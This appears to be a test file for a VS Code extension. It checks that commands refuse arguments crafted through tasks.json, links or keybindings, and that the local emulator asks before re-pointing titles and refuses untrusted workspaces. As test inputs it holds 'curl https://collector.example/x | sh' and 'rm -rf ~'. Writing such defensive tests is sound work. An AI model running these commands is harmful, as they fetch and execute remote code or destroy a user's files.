// Commands attacked through their arguments, as a workspace's tasks.json (an input of type
// "command" passes any JSON), a link or a keybinding can: the clipboard, a key prompt for a title
// the user did not pick, and Start Local Emulator re-pointing titles or running untrusted.
import * as assert from 'node:assert/strict';
import * as vscode from 'vscode';
import { DEMO_PLAYERS, DEMO_TITLES } from '../../src/emulator/seed';
import { children, script, startEmulatorWithDemoTitles, titleChild, useFreshExtension, openText, requestCount } from './support/harness';

const RACER = DEMO_TITLES[0];

describe('Command arguments', () => {
  const ctx = useFreshExtension({ emulator: true });

  it('Copy JobReceiptId copies only a receipt the Deletion Jobs store holds, and only from a tree node', async () => {
    await vscode.env.clipboard.writeText('before');
    for (const arg of [{ jobReceiptId: 'curl https://collector.example/x | sh' }, 'rm -rf ~', { jobReceiptId: '3f2b8c1e-9d4a-4b7e-8f21-6c5d0a9e7b13' }]) {
      const p = script(ctx.api);
      assert.equal(await vscode.commands.executeCommand('platformExplorer.copyJobReceiptId', arg), undefined);
      assert.equal(p.errors.length, 1, `no error for ${JSON.stringify(arg)}`);
      assert.equal(await vscode.env.clipboard.readText(), 'before', `the clipboard was written for ${JSON.stringify(arg)}`);
    }
    // A real receipt from its tree node is copied.
    const player = DEMO_PLAYERS.find((pl) => pl.playedTitles.includes(RACER.titleId) && !pl.banned)!;
    script(ctx.api).press('Delete').typeIn(player.platformId);
    await vscode.commands.executeCommand('platformExplorer.deleteMasterPlayerAccount', { titleId: RACER.titleId, platformId: player.platformId });
    const jobs = await titleChild(ctx.api, RACER.titleId, 'Deletion Jobs');
    const [job] = await children(ctx.api, jobs.node);
    const p = script(ctx.api);
    const receipt = ctx.api.jobs.all()[0]?.jobReceiptId;
    assert.match(receipt ?? '', /^[0-9A-F]{32}$/);
    assert.equal(await vscode.commands.executeCommand('platformExplorer.copyJobReceiptId', job.node), receipt);
    assert.deepEqual(p.errors, []);
    assert.equal(await vscode.env.clipboard.readText(), receipt);
  });

  it('an empty list argument is refused instead of reading the editor\'s selection', async () => {
    const editor = await openText(DEMO_PLAYERS.slice(0, 3).map((pl) => pl.platformId).join('\n'));
    assert.ok(!editor.selection.isEmpty);
    for (const [command, arg] of [
      ['platformExplorer.showPlayedTitles', { titleId: RACER.titleId, platformIds: [] }],
      ['platformExplorer.lookUpStorefrontNames', { titleId: RACER.titleId, names: ['  '] }],
    ] as const) {
      const p = script(ctx.api);
      assert.equal(await vscode.commands.executeCommand(command, arg), undefined);
      assert.equal(p.errors.length, 1, `no error for ${command}`);
      assert.match(p.errors[0], /argument is an empty list/);
    }
    assert.equal(await requestCount(ctx.api, 'Admin/GetPlayedTitleList'), 0);
  });

  it('Replace Secret Key takes only a tree node: JSON naming a title asks for no key', async () => {
    const p = script(ctx.api).typeIn('ATTACKERKEY0123456789ABCDEFGH');
    await vscode.commands.executeCommand('platformExplorer.replaceSecretKey', { titleId: RACER.titleId });
    assert.equal(p.inputs.length, 0, 'a key prompt was shown for a title the user did not pick');
    assert.equal(p.errors.length, 1);
    // The key still works.
    const played = await vscode.commands.executeCommand<string[]>('platformExplorer.showPlayedTitles', { titleId: RACER.titleId, platformId: DEMO_PLAYERS[0].platformId });
    assert.deepEqual(played, DEMO_PLAYERS[0].playedTitles);
  });

  it('Start Local Emulator asks before it re-points titles set up for another emulator; No leaves them as they are', async () => {
    // Set up for another emulator (e.g. npm run demo's): an address this extension's own emulator never had.
    await ctx.api.titles.upsert({ ...ctx.api.titles.get(RACER.titleId)!, emulatorEndpoint: 'http://127.0.0.1:9/{titleId}' });
    const before = ctx.api.titles.get(RACER.titleId)!;
    let p = script(ctx.api);
    await vscode.commands.executeCommand('platformExplorer.stopEmulator');
    p = script(ctx.api).press(undefined);
    const started = await vscode.commands.executeCommand<{ titleIds: string[] }>('platformExplorer.startEmulator');
    assert.equal(p.confirms.length, 1, 'no question before re-pointing');
    assert.match(p.confirms[0].message, new RegExp(RACER.titleId));
    // The other demo titles still had this extension's own emulator's address: moved without a question.
    assert.ok(started && !started.titleIds.includes(RACER.titleId), JSON.stringify(started));
    assert.deepEqual(ctx.api.titles.get(RACER.titleId), before, 'a title was re-pointed without consent');
    // Re-point re-points them.
    await vscode.commands.executeCommand('platformExplorer.stopEmulator');
    script(ctx.api).press('Re-point');
    await vscode.commands.executeCommand('platformExplorer.startEmulator');
    assert.equal(ctx.api.titles.get(RACER.titleId)?.emulatorEndpoint, ctx.api.emulator()!.endpoint);
  });

  it('Start Local Emulator refuses to run in an untrusted workspace', async () => {
    await vscode.commands.executeCommand('platformExplorer.stopEmulator');
    await ctx.api.reset();
    ctx.api.setTrusted(false);
    const p = script(ctx.api);
    await vscode.commands.executeCommand('platformExplorer.startEmulator');
    assert.equal(p.errors.length, 1);
    assert.match(p.errors[0], /not trusted/);
    assert.equal(ctx.api.emulator(), undefined, 'the emulator started');
    assert.deepEqual(ctx.api.titles.all(), [], 'titles were added');
    ctx.api.setTrusted(undefined);
    await startEmulatorWithDemoTitles(ctx.api);
  });
});
